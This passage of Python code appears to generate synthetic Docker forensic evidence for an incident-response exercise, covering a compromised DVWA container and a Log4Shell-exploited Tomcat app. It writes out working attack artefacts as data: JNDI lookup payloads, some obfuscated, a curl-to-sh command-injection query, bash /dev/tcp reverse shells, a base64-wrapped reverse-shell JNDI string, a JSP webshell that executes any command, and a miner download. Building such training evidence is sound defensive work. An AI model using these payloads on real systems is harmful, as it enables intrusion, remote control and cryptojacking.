        E("etc/apache2/apache2.conf", data="DefaultRuntimeDir ${APACHE_RUN_DIR}\nPidFile ${APACHE_PID_FILE}\nUser ${APACHE_RUN_USER}\nGroup ${APACHE_RUN_GROUP}\nErrorLog ${APACHE_LOG_DIR}/error.log\nLogLevel warn\nLogFormat \"%h %l %u %t \\\"%r\\\" %>s %O \\\"%{Referer}i\\\" \\\"%{User-Agent}i\\\"\" combined\nIncludeOptional sites-enabled/*.conf\n", mtime=b),
        E("etc/apache2/envvars", data="export APACHE_RUN_USER=www-data\nexport APACHE_RUN_GROUP=www-data\nexport APACHE_PID_FILE=/var/run/apache2$SUFFIX/apache2.pid\nexport APACHE_RUN_DIR=/var/run/apache2$SUFFIX\nexport APACHE_LOG_DIR=/var/log/apache2$SUFFIX\nexport LANG=C\n", mtime=b),
        E("etc/apache2/sites-available/000-default.conf", data="<VirtualHost *:80>\n\tServerAdmin webmaster@localhost\n\tDocumentRoot /var/www/html\n\tErrorLog ${APACHE_LOG_DIR}/error.log\n\tCustomLog ${APACHE_LOG_DIR}/access.log combined\n</VirtualHost>\n", mtime=b),
        E("etc/apache2/sites-enabled/000-default.conf", "l", link="../sites-available/000-default.conf", mtime=b),
        E("etc/cron.d/.placeholder", data="# DO NOT EDIT OR REMOVE\n# This file is a simple placeholder to keep dpkg from removing this directory\n", mtime=b),
        E("etc/cron.d/php", data="# /etc/cron.d/php@PHP_VERSION@: crontab fragment for PHP\n09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n", mtime=b),
        E("etc/group", data=GROUP_BASE + "mysql:x:101:\ncrontab:x:102:\n", mtime=b),
        E("etc/mysql/my.cnf", data="[client-server]\n!includedir /etc/mysql/conf.d/\n!includedir /etc/mysql/mariadb.conf.d/\n", mtime=b),
        E("etc/mysql/mariadb.conf.d/50-server.cnf", data="[mysqld]\nuser = mysql\npid-file = /run/mysqld/mysqld.pid\nsocket = /run/mysqld/mysqld.sock\ndatadir = /var/lib/mysql\nbind-address = 127.0.0.1\n", mtime=b),
        E("etc/passwd", data=PASSWD_BASE + MYSQL_PASSWD, mtime=b),
        E("etc/php/7.3/apache2/php.ini", data="[PHP]\nengine = On\nallow_url_fopen = On\nallow_url_include = Off\ndisplay_errors = Off\nlog_errors = On\n[Session]\nsession.save_path = \"/var/lib/php/sessions\"\n", mtime=b),
        E("etc/shadow", data=SHADOW_BASE + MYSQL_SHADOW, mode=0o640, gid=42, mtime=b),
        E("run/mysqld", "d", uid=101, gid=101, mtime=b),
        E("usr/bin/mysqld_safe", data="#!/bin/sh\n# mysqld_safe: start mysqld with safety features\nexec /usr/sbin/mysqld \"$@\"\n", mode=0o755, mtime=b),
        E("usr/bin/php7.3", data=elf_stub("php", ["PHP 7.3.31-1~deb10u7 (cli)"]), mode=0o755, mtime=b),
        E("usr/bin/wget", data=elf_stub("wget", ["GNU Wget 1.20.1"]), mode=0o755, mtime=b),
        E("usr/lib/php/sessionclean", data="#!/bin/sh -e\n# sessionclean - a script to cleanup stale PHP sessions\n", mode=0o755, mtime=b),
        E("usr/sbin/apache2", data=elf_stub("apache2", ["Apache/2.4.38 (Debian)"]), mode=0o755, mtime=b),
        E("usr/sbin/cron", data=elf_stub("cron", ["cron (Debian)"]), mode=0o755, mtime=b),
        E("usr/sbin/mysqld", data=elf_stub("mysqld", ["10.3.39-MariaDB-0+deb10u2"]), mode=0o755, mtime=b),
        E("var/lib/mysql", "d", uid=101, gid=101, mtime=b),
        E("var/lib/mysql/aria_log_control", data=b"\xfe\xfe\x0c\x01" + b"\0" * 48, mode=0o660, uid=101, gid=101, mtime=b),
        E("var/lib/php/sessions", "d", mode=0o1733, mtime=b),
        E("var/log/apache2", "d", mode=0o750, gid=adm, mtime=b),
        E("var/log/mysql", "d", mode=0o2750, uid=101, gid=adm, mtime=b),
        E("var/spool/cron/crontabs", "d", mode=0o1730, gid=102, mtime=b),
        E("var/www/html/index.html", data="<!DOCTYPE html>\n<html><head><title>Apache2 Debian Default Page: It works</title></head>\n<body>It works!</body></html>\n", mtime=b),
    ], b, merged([l1]))
    c = t("2026-11-10T08:15:02")
    dv = lambda p, data: E("var/www/html/" + p, data=data, uid=33, gid=33, mtime=c)  # noqa: E731
    l3 = layer([
        E("var/www/html", "d", uid=33, gid=33, mtime=c),
        E("var/www/html/index.html", "w", mtime=c),
        dv("config/config.inc.php", "<?php\n$DBMS = 'MySQL';\n$_DVWA = array();\n$_DVWA[ 'db_server' ]   = '127.0.0.1';\n$_DVWA[ 'db_database' ] = 'dvwa';\n$_DVWA[ 'db_user' ]     = 'dvwa';\n$_DVWA[ 'db_password' ] = 'p@ssw0rd';\n$_DVWA[ 'default_security_level' ] = 'impossible';\n?>\n"),
        dv("config/config.inc.php.dist", "<?php\n$_DVWA[ 'db_password' ] = 'p@ssw0rd';\n?>\n"),
        dv("dvwa/css/login.css", "body { background: #fff; }\n"),
        dv("dvwa/includes/dvwaPage.inc.php", "<?php\nif( !defined( 'DVWA_WEB_PAGE_TO_ROOT' ) ) { die( 'DVWA System error- WEB_PAGE_TO_ROOT undefined' ); }\nsession_start();\n?>\n"),
        dv("hackable/uploads/dvwa_email.png", bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\0" * 16),
        dv("index.php", "<?php\ndefine( 'DVWA_WEB_PAGE_TO_ROOT', '' );\nrequire_once DVWA_WEB_PAGE_TO_ROOT . 'dvwa/includes/dvwaPage.inc.php';\ndvwaPageStartup( array( 'authenticated' ) );\n?>\n"),
        dv("login.php", "<?php\ndefine( 'DVWA_WEB_PAGE_TO_ROOT', '' );\nrequire_once DVWA_WEB_PAGE_TO_ROOT . 'dvwa/includes/dvwaPage.inc.php';\n?>\n"),
        dv("security.php", "<?php\n// security level: low, medium, high, impossible\n?>\n"),
        dv("setup.php", "<?php\n// Create / Reset Database\n?>\n"),
        dv("vulnerabilities/exec/index.php", "<?php\ndefine( 'DVWA_WEB_PAGE_TO_ROOT', '../../' );\n$vulnerabilityFile = 'low.php';\nrequire_once DVWA_WEB_PAGE_TO_ROOT . \"vulnerabilities/exec/source/{$vulnerabilityFile}\";\n?>\n"),
        dv("vulnerabilities/exec/source/low.php", LOW_PHP),
    ], c, merged([l1, l2]), owner=(33, 33))
    d = t("2026-11-10T08:15:09")
    l4 = layer([E("main.sh", data=MAIN_SH, mode=0o755, mtime=t("2026-11-10T08:12:55"))], d, merged([l1, l2, l3]))
    bk = "buildkit.dockerfile.v0"
    history = [
        {"created": "2026-11-04T01:21:37.528194702Z", "created_by": "/bin/sh -c #(nop) ADD file:b2d61a5c0f8e3d4c7a9e1f2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d in / "},
        {"created": "2026-11-04T01:21:37.922514311Z", "created_by": "/bin/sh -c #(nop)  CMD [\"bash\"]", "empty_layer": True},
        {"created": "2026-11-10T08:14:31.402117855Z", "created_by": "RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends apache2 mariadb-server php libapache2-mod-php php-mysqli php-gd cron wget git procps && rm -rf /var/lib/apt/lists/* # buildkit", "comment": bk},
        {"created": "2026-11-10T08:15:02.118520344Z", "created_by": "RUN /bin/sh -c rm -rf /var/www/html/* && git clone --depth 1 https://github.com/digininja/DVWA.git /var/www/html && rm -rf /var/www/html/.git && cp /var/www/html/config/config.inc.php.dist /var/www/html/config/config.inc.php && chown -R www-data:www-data /var/www/html # buildkit", "comment": bk},
        {"created": "2026-11-10T08:15:09.730081227Z", "created_by": "COPY main.sh / # buildkit", "comment": bk},
        {"created": "2026-11-10T08:15:09.730081227Z", "created_by": "VOLUME [/var/lib/mysql]", "comment": bk, "empty_layer": True},
        {"created": "2026-11-10T08:15:09.730081227Z", "created_by": "EXPOSE map[3306/tcp:{} 80/tcp:{}]", "comment": bk, "empty_layer": True},
        {"created": "2026-11-10T08:15:09.730081227Z", "created_by": "CMD [\"/main.sh\"]", "comment": bk, "empty_layer": True},
    ]
    return [l1, l2, l3, l4], history


def dvwa_container_config() -> dict:
    return {
        "Hostname": DVWA_ID[:12], "Domainname": "", "User": "", "AttachStdin": False, "AttachStdout": False,
        "AttachStderr": False, "ExposedPorts": {"3306/tcp": {}, "80/tcp": {}}, "Tty": False, "OpenStdin": False,
        "StdinOnce": False, "Env": DVWA_ENV, "Cmd": ["/main.sh"], "Image": "sagikazarmark/dvwa",
        "Volumes": {"/var/lib/mysql": {}}, "WorkingDir": "", "Entrypoint": None, "OnBuild": None,
        "Labels": {"maintainer": "Mark Sagi-Kazar <mark.sagikazar@gmail.com>"},
    }


def dvwa_image_config(layers, history, extra_history=None, commit=False) -> bytes:
    cfg = dvwa_container_config()
    img_cfg = dict(cfg, Hostname="", Env=["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"], Image="")
    top = {
        "architecture": "amd64",
        "config": cfg if commit else img_cfg,
        "created": history[-1]["created"] if not extra_history else extra_history["created"],
        "history": history + ([extra_history] if extra_history else []),
        "os": "linux",
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + sha256(tar_bytes(l)) for l in layers]},
    }
    if commit:
        top["container"] = DVWA_ID
        top["container_config"] = cfg
        top["docker_version"] = "24.0.7"
    return image_config(top)


class Clock:
    """Monotonic nanosecond stamps for log records (json-file times are strictly increasing)."""

    def __init__(self):
        self.n = 0

    def at(self, when: int, base_nanos: int) -> tuple[int, int]:
        self.n += 1
        nanos = (base_nanos + self.n * 7919) % 1_000_000_000
        if nanos % 10 == 0:
            nanos += 3
        return when, nanos


def dvwa_traffic():
    """(access.log lines with times, error.log lines with times), in time order."""
    chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
    firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    chopper = "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"
    site = f"http://{HOST_IP}:81"
    user = "10.20.4.17"
    acc = [
        (t("2026-11-27T09:31:02"), combined(user, t("2026-11-27T09:31:02"), "GET / HTTP/1.1", 302, 398, "-", chrome)),
        (t("2026-11-27T09:31:02"), combined(user, t("2026-11-27T09:31:02"), "GET /login.php HTTP/1.1", 200, 1839, "-", chrome)),
        (t("2026-11-27T09:31:03"), combined(user, t("2026-11-27T09:31:03"), "GET /dvwa/css/login.css HTTP/1.1", 200, 547, f"{site}/login.php", chrome)),
        (t("2026-11-27T09:31:15"), combined(user, t("2026-11-27T09:31:15"), "POST /login.php HTTP/1.1", 302, 398, f"{site}/login.php", chrome)),
        (t("2026-11-27T09:31:15"), combined(user, t("2026-11-27T09:31:15"), "GET /index.php HTTP/1.1", 200, 7245, f"{site}/login.php", chrome)),
        # A TLS ClientHello sent to the plain-HTTP port: Apache logs the bytes \xNN-escaped.
        (t("2026-11-27T13:47:03"), combined(SCANNER, t("2026-11-27T13:47:03"), r"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\x9c\x1f\xd2\x8e\x06\xb7i\xa2\x11\xf0", 400, 0, "-", "-")),
        (t("2026-11-27T13:47:05"), combined(SCANNER, t("2026-11-27T13:47:05"), "GET / HTTP/1.1", 302, 398, "-", f"${{jndi:ldap://{SCANNER}:1389/Exploit}}")),
        (t("2026-11-27T13:47:06"), combined(SCANNER, t("2026-11-27T13:47:06"), "GET /login.php HTTP/1.1", 200, 1839, f"${{jndi:dns://{SCANNER}/ref}}", f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{SCANNER}:1389/a}}")),
    ]
    # A WAF-evasion probe whose log line exceeds 16 KiB: the obfuscated JNDI payload in the
    # User-Agent straddles the json-file 16 KiB record boundary.
    jndi_obf = f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{SCANNER}:1389/wafbypass}}"
    query = "ip=127.0.0.1%3Bcurl%20-s%20http%3A%2F%2F" + SCANNER + "%2Fx.sh%7Csh&Submit=Submit&pad=" + "A" * 7000
    ref = "https://www.google.com/search?q=" + "B" * 6900
    head = combined(SCANNER, t("2026-11-27T13:47:09"), f"GET /vulnerabilities/exec/?{query} HTTP/1.1", 302, 398, ref, "")
    ua_pad = "X" * (16 * 1024 - (len(head) - 1) - 30)
    long_ua = ua_pad + jndi_obf + " " + "Y" * 1200
    acc.append((t("2026-11-27T13:47:09"), combined(SCANNER, t("2026-11-27T13:47:09"), f"GET /vulnerabilities/exec/?{query} HTTP/1.1", 302, 398, ref, long_ua)))
    a = ATTACKER
    for when, req, st, size, ref_path in [
        ("13:58:01", "GET /login.php HTTP/1.1", 200, 1839, "-"),
        ("13:58:12", "POST /login.php HTTP/1.1", 302, 398, "/login.php"),
        ("13:58:12", "GET /index.php HTTP/1.1", 200, 7245, "/login.php"),
        ("13:58:40", "GET /security.php HTTP/1.1", 200, 4312, "/index.php"),
        ("13:58:47", "POST /security.php HTTP/1.1", 302, 398, "/security.php"),
        ("13:59:02", "GET /vulnerabilities/exec/ HTTP/1.1", 200, 4588, "/security.php"),
        ("13:59:40", "POST /vulnerabilities/exec/ HTTP/1.1", 200, 4803, "/vulnerabilities/exec/"),
        ("14:01:05", "POST /vulnerabilities/exec/ HTTP/1.1", 200, 6127, "/vulnerabilities/exec/"),
    ]:
        w = t("2026-11-27T" + when)
        acc.append((w, combined(a, w, req, st, size, "-" if ref_path == "-" else site + ref_path, firefox)))
    # 14:02:03 POST /vulnerabilities/exec/ (the reverse shell) never completes: no access line.
    for when, size in [("14:06:48", 201), ("14:07:30", 1204), ("14:11:52", 12), ("14:52:10", 388)]:
        w = t("2026-11-27T" + when)
        acc.append((w, combined(a, w, "POST /hackable/uploads/shell.php HTTP/1.1", 200, size, "-", chopper)))
    err = [
        (t("2026-11-27T09:12:46"), f"[{apache_err_time(t('2026-11-27T09:12:46'), 881302)}] [mpm_prefork:notice] [pid 251] AH00163: Apache/2.4.38 (Debian) configured -- resuming normal operations"),
        (t("2026-11-27T09:12:46"), f"[{apache_err_time(t('2026-11-27T09:12:46'), 881357)}] [core:notice] [pid 251] AH00094: Command line: '/usr/sbin/apache2'"),
        (t("2026-11-27T14:01:05"), "cat: /etc/shadow: Permission denied"),
    ]
    wget = [
        f"--2026-11-27 14:11:40--  http://{a}:8000/kdevtmpfsi",
        f"Connecting to {a}:8000... connected.",
        "HTTP request sent, awaiting response... 200 OK",
        f"Length: {MINER_SIZE} (2.2K) [application/octet-stream]",
        "Saving to: '/tmp/kdevtmpfsi'",
        "",
        "     0K ..                                                    100%  412M=0s",
        "",
        f"2026-11-27 14:11:47 (412 MB/s) - '/tmp/kdevtmpfsi' saved [{MINER_SIZE}/{MINER_SIZE}]",
        "",
    ]
    err += [(t("2026-11-27T14:11:47") if i > 0 else t("2026-11-27T14:11:40"), line) for i, line in enumerate(wget)]
    return acc, err


def dvwa_logs(acc, err) -> Log:
    log = Log()
    clk = Clock()
    s0 = t("2026-11-27T09:12:45")
    for i, (stream, text) in enumerate([
        ("stdout", "[+] Starting mysql..."),
        ("stdout", "Starting MariaDB database server: mysqld."),
        ("stdout", "[+] Starting apache"),
        ("stderr", "AH00558: apache2: Could not reliably determine the server's fully qualified domain name, using 172.17.0.2. Set the 'ServerName' directive globally to suppress this message"),
        ("stdout", "Starting Apache httpd web server: apache2."),
    ]):
        log.add(*clk.at(s0 + (0 if i < 2 else 1), 104_000_000 + i * 91_000_000), stream, text)
    s1 = t("2026-11-27T09:12:46")
    # tail -f /var/log/apache2/*.log: the initial view of each file, then new lines, with a
    # "==> file <==" header whenever the file being printed changes.
    events = [(w, "access", line) for w, line in acc] + [(w, "error", line) for w, line in err[2:]]
    events.sort(key=lambda e: e[0])
    out = [("==> /var/log/apache2/access.log <==", s1), ("", s1), ("==> /var/log/apache2/error.log <==", s1)]
    out += [(line, s1) for _, line in err[:2]]
    out += [("", s1), ("==> /var/log/apache2/other_vhosts_access.log <==", s1)]
    current = "other"
    for w, which, line in events:
        if which != current:
            out += [("", w), (f"==> /var/log/apache2/{which}.log <==", w)]
            current = which
        out.append((line, w))
    for line, w in out:
        log.add(*clk.at(w, 930_000_000 if w == s1 else 412_000_000), "stdout", line)
    return log


def dvwa_commit_layer(lower: dict[str, E], acc, err) -> list[E]:
    """The container's read-write layer at commit time (overlay2 upper dir as moby tars it)."""
    access = "".join(line + "\n" for _, line in acc).encode()
    error = "".join(line + "\n" for _, line in err).encode()
    miner = elf_stub("kdevtmpfsi", ["XMRig 6.21.0", MINER_URL, MINER_WALLET, "--donate-level", "randomx"], MINER_SIZE)
    sess = 'dvwa_session|i:1;session_token|s:32:"5f3c8e0b9a7d4c21e6f0b1a2c3d4e5f6";username|s:5:"admin";security|s:3:"low";'
    entries = [
        E("etc/cron.d", "d", mtime=t("2026-11-27T14:33:40")),
        E("etc/cron.d/php-sess-clean", data=CRON_FILE, mtime=t("2025-01-15T06:09:00")),  # timestomped (touch -d)
        E("etc/passwd", data=PASSWD_BASE + MYSQL_PASSWD + EVIL_USER, mtime=t("2026-11-27T14:31:09")),
        E("etc/shadow", data=SHADOW_BASE + MYSQL_SHADOW + EVIL_SHADOW, mode=0o640, gid=42, mtime=t("2026-11-27T14:31:09")),
        E("root", "d", mode=0o700, mtime=t("2026-11-27T14:35:02")),
        E("root/.bash_history", "w", mtime=t("2026-11-27T14:35:02")),
        E("run", "d", mtime=t("2026-11-27T09:12:46")),
        E("run/apache2", "d", mtime=t("2026-11-27T09:12:46")),
        E("run/apache2/apache2.pid", data="251\n", mtime=t("2026-11-27T09:12:46")),
        E("run/mysqld", "d", uid=101, gid=101, mtime=t("2026-11-27T09:12:45")),
        E("run/mysqld/mysqld.pid", data="170\n", mode=0o660, uid=101, gid=101, mtime=t("2026-11-27T09:12:45")),
        E("run/mysqld/mysqld.sock", "s", uid=101, gid=101, mtime=t("2026-11-27T09:12:45")),
        E("tmp", "d", mode=0o1777, mtime=t("2026-11-27T14:11:47")),
        E("tmp/kdevtmpfsi", data=miner, mode=0o755, uid=33, gid=33, mtime=t("2026-11-27T14:11:47")),
        E("tmp/m.sh", data=M_SH, uid=33, gid=33, mtime=t("2026-11-27T14:11:40")),
        # Created by the attacker's first GET /login.php, rewritten at the end of each request
        # of that session (the 14:02:03 request never ended).
        E("var/lib/php/sessions", "d", mode=0o1733, mtime=t("2026-11-27T13:58:01")),
        E("var/lib/php/sessions/sess_9b2f4d6h8j0l2n4p6r8t0v2s4q", data=sess.replace("5f3c8e0b9a7d4c21e6f0b1a2c3d4e5f6", "c0ffee00d15ea5e0b1e55ed0a11ce000").replace('s:3:"low"', 's:10:"impossible"'), mode=0o600, uid=33, gid=33, mtime=t("2026-11-27T09:31:15")),
        E("var/lib/php/sessions/sess_k3v9q2m1f7b0c8d6e5a4p3r2s1", data=sess, mode=0o600, uid=33, gid=33, mtime=t("2026-11-27T14:01:05")),
        E("var/log/apache2", "d", mode=0o750, gid=4, mtime=t("2026-11-27T09:12:46")),
        E("var/log/apache2/access.log", data=access, mode=0o640, gid=4, mtime=acc[-1][0]),
        E("var/log/apache2/error.log", data=error, mode=0o640, gid=4, mtime=err[-1][0]),
        E("var/log/apache2/other_vhosts_access.log", data=b"", mode=0o640, gid=4, mtime=t("2026-11-27T09:12:46")),
        E("var/www/html/hackable/uploads", "d", uid=33, gid=33, mtime=t("2026-11-27T14:06:21")),
        E("var/www/html/hackable/uploads/shell.php", data=WEBSHELL_PHP, uid=33, gid=33, mtime=t("2026-11-27T14:06:21")),
    ]
    return layer(entries, 0, lower)


def dvwa_processes() -> list[list[str]]:
    rev = f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
    apache = "/usr/sbin/apache2 -k start"
    rows = [
        ["root", str(DVWA_PID), str(DVWA_SHIM_PID), "0", "09:12", "?", "00:00:00", "/bin/bash /main.sh"],
        ["root", "23164", str(DVWA_PID), "0", "09:12", "?", "00:00:00", "/bin/sh /usr/bin/mysqld_safe"],
        ["101", "23302", "23164", "0", "09:12", "?", "00:00:19", "/usr/sbin/mysqld --basedir=/usr --datadir=/var/lib/mysql --plugin-dir=/usr/lib/x86_64-linux-gnu/mariadb19/plugin --user=mysql --skip-log-error --pid-file=/run/mysqld/mysqld.pid --socket=/run/mysqld/mysqld.sock"],
        ["root", "23481", str(DVWA_PID), "0", "09:12", "?", "00:00:01", apache],
    ]
    rows += [["www-data", str(p), "23481", "0", "09:12", "?", "00:00:00", apache] for p in range(23490, 23495)]
    rows += [
        ["root", "23520", str(DVWA_PID), "0", "09:12", "?", "00:00:00", "tail -f /var/log/apache2/access.log /var/log/apache2/error.log /var/log/apache2/other_vhosts_access.log"],
        ["www-data", "31877", "23492", "0", "14:02", "?", "00:00:00", f"sh -c ping  -c 4 127.0.0.1;bash -c '{rev}'"],
        ["www-data", "31880", "31877", "0", "14:02", "?", "00:00:00", f"bash -c {rev}"],
        ["www-data", "31881", "31880", "0", "14:02", "?", "00:00:00", "bash -i"],
        ["www-data", "32406", str(DVWA_PID), "99", "14:11", "?", "02:50:37", f"/tmp/kdevtmpfsi -o {MINER_URL} -u {MINER_WALLET} -p x -k --donate-level 1"],
    ]
    return rows


def dvwa_inspect(image_id: str, layer_cache_ids: list[str]) -> str:
    vol = fake_id("dvwa-mysql-volume")
    cdir = f"/var/lib/docker/containers/{DVWA_ID}"
    net = {
        "IPAMConfig": None, "Links": None, "Aliases": None,
        "NetworkID": fake_id("bridge-network-host1"), "EndpointID": fake_id("dvwa-endpoint"),
        "Gateway": "172.17.0.1", "IPAddress": "172.17.0.2", "IPPrefixLen": 16, "IPv6Gateway": "",
        "GlobalIPv6Address": "", "GlobalIPv6PrefixLen": 0, "MacAddress": "02:42:ac:11:00:02", "DriverOpts": None,
    }
    obj = {
        "Id": DVWA_ID,
        "Created": go_time(*DVWA_CREATED),
        "Path": "/main.sh",
        "Args": [],
        "State": {
            "Status": "running", "Running": True, "Paused": False, "Restarting": False, "OOMKilled": False,
            "Dead": False, "Pid": DVWA_PID, "ExitCode": 0, "Error": "", "StartedAt": go_time(*DVWA_STARTED),
            "FinishedAt": "0001-01-01T00:00:00Z",
        },
        "Image": image_id,
        "ResolvConfPath": f"{cdir}/resolv.conf",
        "HostnamePath": f"{cdir}/hostname",
        "HostsPath": f"{cdir}/hosts",
        "LogPath": f"{cdir}/{DVWA_ID}-json.log",
        "Name": "/dvwa",
        "RestartCount": 0,
        "Driver": "overlay2",
        "Platform": "linux",
        "MountLabel": "",
        "ProcessLabel": "",
        "AppArmorProfile": "docker-default",
        "ExecIDs": None,
        "HostConfig": host_config(PortBindings={"80/tcp": [{"HostIp": "", "HostPort": "81"}]}),
        "GraphDriver": graph_driver(fake_id("dvwa-rw-layer"), layer_cache_ids),
        "Mounts": [{
            "Type": "volume", "Name": vol, "Source": f"/var/lib/docker/volumes/{vol}/_data",
            "Destination": "/var/lib/mysql", "Driver": "local", "Mode": "", "RW": True, "Propagation": "",
        }],
        "Config": dvwa_container_config(),
        "NetworkSettings": {
            "Bridge": "", "SandboxID": fake_id("dvwa-sandbox"), "HairpinMode": False, "LinkLocalIPv6Address": "",
            "LinkLocalIPv6PrefixLen": 0,
            "Ports": {"3306/tcp": None, "80/tcp": [{"HostIp": "0.0.0.0", "HostPort": "81"}, {"HostIp": "::", "HostPort": "81"}]},
            "SandboxKey": "/var/run/docker/netns/" + fake_id("dvwa-sandbox")[:12], "SecondaryIPAddresses": None,
            "SecondaryIPv6Addresses": None, "EndpointID": net["EndpointID"], "Gateway": "172.17.0.1",
            "GlobalIPv6Address": "", "GlobalIPv6PrefixLen": 0, "IPAddress": "172.17.0.2", "IPPrefixLen": 16,
            "IPv6Gateway": "", "MacAddress": "02:42:ac:11:00:02", "Networks": {"bridge": net},
        },
    }
    return go_json([obj], indent=4) + "\n"


def build_dvwa() -> None:
    layers, history = dvwa_layers()
    base_cfg = dvwa_image_config(layers, history)
    base_id = "sha256:" + sha256(base_cfg)
    base_view = merged(layers)
    created = DVWA_CREATED[0]
    init = init_layer(created, base_view)
    lower = merged(layers + [init])
    acc, err = dvwa_traffic()
    rw = dvwa_commit_layer(lower, acc, err)
    commit_hist = {
        "created": go_time(*DVWA_COMMIT),
        "created_by": "/main.sh",
        "comment": "IR-2026-1127: dvwa compromised (cmd injection, webshell, miner); scene preserved by responder",
    }
    all_layers = layers + [rw]
    cfg = dvwa_image_config(all_layers, history, commit_hist, commit=True)
    FACTS["dvwa"] = [("container id", DVWA_ID), ("image the container ran (`sagikazarmark/dvwa`, inspect `Image`)", base_id),
                     ("committed image (`ir-evidence/dvwa:2026-11-27`)", "sha256:" + sha256(cfg))]
    write("dvwa", "image.tar", save_legacy(cfg, [tar_bytes(l) for l in all_layers], DVWA_COMMIT[0], "ir-evidence/dvwa", "2026-11-27"))
    write("dvwa", "export.tar", export_tar(merged(layers + [init, rw])))
    write("dvwa", "diff.txt", docker_diff(lower, rw))
    write("dvwa", "inspect.json", dvwa_inspect(base_id, [fake_id(f"dvwa-cache-{i}") for i in range(len(layers))]))
    write("dvwa", f"logs/{DVWA_ID}-json.log", dvwa_logs(acc, err).json_file())
    header = ["UID", "PID", "PPID", "C", "STIME", "TTY", "TIME", "CMD"]
    write("dvwa", "top.txt", tabwriter([header] + dvwa_processes(), 20, 3))
    write("dvwa", "docker-ps.txt", tabwriter([
        ["CONTAINER ID", "IMAGE", "COMMAND", "CREATED", "STATUS", "PORTS", "NAMES"],
        [DVWA_ID[:12], "sagikazarmark/dvwa", '"/main.sh"', "6 hours ago", "Up 6 hours",
         "0.0.0.0:81->80/tcp, :::81->80/tcp, 3306/tcp", "dvwa"],
    ], 10, 3))
    write("dvwa", "stats.txt", tabwriter([
        ["CONTAINER ID", "NAME", "CPU %", "MEM USAGE / LIMIT", "MEM %", "NET I/O", "BLOCK I/O", "PIDS"],
        [DVWA_ID[:12], "dvwa", "197.86%", "76.1MiB / 3.686GiB", "2.02%", "48.3MB / 9.71MB", "61.4MB / 2.87MB", "27"],
    ], 10, 3))


# ---------------------------------------------------------------------------------------
# Bundle 2: log4shell (Tomcat 8.5 + log4j-core 2.14.1 on OpenJDK 8u181; JNDIExploit
# Basic/Command -> java spawns bash reverse shell; JSP webshell; implant in /tmp; ssh key;
# system logs wiped). Host runs Docker 27.3.1 (docker save in the 25+ OCI layout).
# ---------------------------------------------------------------------------------------

L4S_ID = fake_id("log4shell-container")
L4S_NAME = "log4shell-app"
L4S_IMAGE = "ghcr.io/acme-retail/orders-web:1.8.0"
L4S_CREATED = (t("2026-11-20T08:30:11"), 502918334)
L4S_STARTED = (t("2026-11-20T08:30:12"), 190447213)
L4S_COMMIT = (t("2026-11-27T15:52:30"), 417306529)
L4S_HOST = "192.0.2.80"
L4S_SHIM_PID, L4S_PID = 83987, 84010
JAVA = "/docker-java-home/jre/bin/java"
JVM_DIR = "usr/lib/jvm/java-8-openjdk-amd64"

L4S_ENV = [
    "ORDERS_DB_URL=jdbc:postgresql://10.20.8.5:5432/orders",
    "ORDERS_DB_USER=orders",
    "ORDERS_DB_PASSWORD=0rd3rs-Pr0d!2026",
    "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
    "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "PATH=/usr/local/tomcat/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "LANG=C.UTF-8",
    "JAVA_HOME=/docker-java-home/jre",
    "JAVA_VERSION=8u181",
    "JAVA_DEBIAN_VERSION=8u181-b13-2~deb9u1",
    "CATALINA_HOME=/usr/local/tomcat",
    "TOMCAT_NATIVE_LIBDIR=/usr/local/tomcat/native-jni-lib",
    "LD_LIBRARY_PATH=/usr/local/tomcat/native-jni-lib",
    "TOMCAT_MAJOR=8",
    "TOMCAT_VERSION=8.5.35",
]
L4S_LABELS = {
    "org.opencontainers.image.source": "https://github.com/acme-retail/orders-web",
    "org.opencontainers.image.version": "1.8.0",
    "org.opencontainers.image.vendor": "ACME Retail",
}

REV_INNER = f"bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1"
REV_CMD = "bash -c {echo," + base64.b64encode(REV_INNER.encode()).decode() + "}|{base64,-d}|{bash,-i}"
REV_B64 = base64.b64encode(REV_CMD.encode()).decode()
JNDI_MAIN = f"${{jndi:ldap://{ATTACKER}:1389/Basic/Command/Base64/{REV_B64}}}"
JNDI_OBF = f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{SCANNER}:1389/a}}"
EXPLOIT_CLASS = "ExploitYq0sZ3uN8d"

JSP_SHELL = """<%@ page import="java.io.*" %>
<%
    String cmd = request.getParameter("cmd");
    if (cmd != null) {
        Process p = Runtime.getRuntime().exec(cmd);
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String line;
        out.println("<pre>");
        while ((line = r.readLine()) != null) { out.println(line); }
        out.println("</pre>");
    }
%>
"""

JSP_JAVA = """/*
 * Generated by the Jasper component of Apache Tomcat
 * Version: Apache Tomcat/8.5.35
 * Generated at: 2026-11-27 14:26:02 UTC
 * Note: The last modified time of this file was set to
 *       the last modified time of the source file after
 *       generation to assist with modification tracking.
 */
package org.apache.jsp.assets;

import javax.servlet.*;
import javax.servlet.http.*;
import javax.servlet.jsp.*;
import java.io.*;

public final class health_jsp extends org.apache.jasper.runtime.HttpJspBase
    implements org.apache.jasper.runtime.JspSourceDependent,
                 org.apache.jasper.runtime.JspSourceImports {

